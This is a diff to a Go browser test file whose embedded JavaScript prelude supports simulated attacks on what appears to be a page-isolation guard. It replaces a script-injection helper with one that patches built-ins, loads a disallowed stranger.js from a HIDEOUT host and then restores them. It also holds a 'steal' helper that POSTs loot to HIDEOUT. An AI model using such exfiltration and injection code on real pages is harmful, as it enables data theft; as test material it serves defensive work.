@@ -95,12 +95,14 @@ func serveAt(t *testing.T, host string, handler http.Handler) string {
 //	attempt(f)           returns what f returns, or what it throws as text
 //	afterLoad(f)         calls f when the page has been loaded
 //	holdPort(f)          calls f with a compartment's port to the guard, which the prelude would keep to itself
-//	bringIn(attack)      creates a script element for stranger.js, which no rule allows in the page
+//	patched(attack, f)   calls f, creates a script element for stranger.js, which no rule allows in the page, and
+//	                     half a second later, when it is over, undoes what f has done to built-ins: the drivers of
+//	                     the browsers use them too
 //
 // The built-in fetch is kept, so that an attack which wraps it does not report its
 // own reports.
 const means = `var CDN = %q, STUN = %q, HIDEOUT = %q;
-var { steal, over, attempt, afterLoad, holdPort, bringIn } = globalThis.means ??= ((send) => {
+var { steal, over, attempt, afterLoad, holdPort, patched } = globalThis.means ??= ((send) => {
   const sent = {};
   const steal = (attack, loot) => {
     const arrived = send(HIDEOUT + "/loot/" + attack, { method: "POST", mode: "no-cors", body: String(loot) }).catch(() => {});
@@ -110,12 +112,35 @@ var { steal, over, attempt, afterLoad, holdPort, bringIn } = globalThis.means ??
   const over = (attack) => Promise.all(sent[attack] ?? []).then(() => steal(attack, "over"));
   const attempt = (f) => { try { return f() } catch (error) { return String(error) } };
   const afterLoad = (f) => document.readyState === "complete" ? f() : addEventListener("load", () => setTimeout(f, 100), { once: true });
-  const { createElement, documentElement } = document, { append } = Element.prototype, { apply } = Reflect;
-  const bringIn = (attack) => {
+  const { apply, ownKeys } = Reflect, { defineProperty, getOwnPropertyDescriptor } = Object;
+  const { createElement } = Document.prototype, { append } = Element.prototype;
+  const patched = (attack, patch) => afterLoad(() => {
+    const kept = [];
+    for (const object of [window, Reflect, JSON, Object, ...[Object, Array, Function, RegExp, String, URL, Map, Set, WeakMap, WeakSet,
+      Promise, Node, Element, HTMLIFrameElement, MessagePort].map((kind) => kind.prototype)]) {
+      if (object !== window) kept.push({ object, name: null, own: ownKeys(object) });
+      for (const name of object === window ? ["URL", "MessageChannel"] : ownKeys(object)) kept.push({ object, name, own: getOwnPropertyDescriptor(object, name) });
+    }
+    const restore = () => {
+      for (let i = 0; i < kept.length; i++) {
+        const { object, name, own } = kept[i];
+        if (name !== null) defineProperty(object, name, own);
+        else {
+          const now = ownKeys(object);
+          for (let n = 0; n < now.length; n++) {
+            let old = false;
+            for (let o = 0; o < own.length; o++) old ||= own[o] === now[n];
+            if (!old) delete object[now[n]];
+          }
+        }
+      }
+    };
+    patch();
     const script = apply(createElement, document, ["script"]);
     script.src = HIDEOUT + "/attacks/stranger.js?by=" + attack;
     apply(append, document.documentElement, [script]);
-  };
+    setTimeout(() => { restore(); over(attack); }, 500);
+  });
   const holdPort = (f) => {
     const held = new Set();
     const hold = (port) => port instanceof MessagePort && !held.has(port) && top !== self && (held.add(port), f(port));
@@ -130,7 +155,7 @@ var { steal, over, attempt, afterLoad, holdPort, bringIn } = globalThis.means ??
     localStorage.setItem("kept_probe", "1");
     document.body.append(Object.assign(document.createElement("p"), { textContent: "grows" }));
   };
-  return { steal, over, attempt, afterLoad, holdPort, bringIn };
+  return { steal, over, attempt, afterLoad, holdPort, patched };
 })(fetch.bind(globalThis));
 `
 
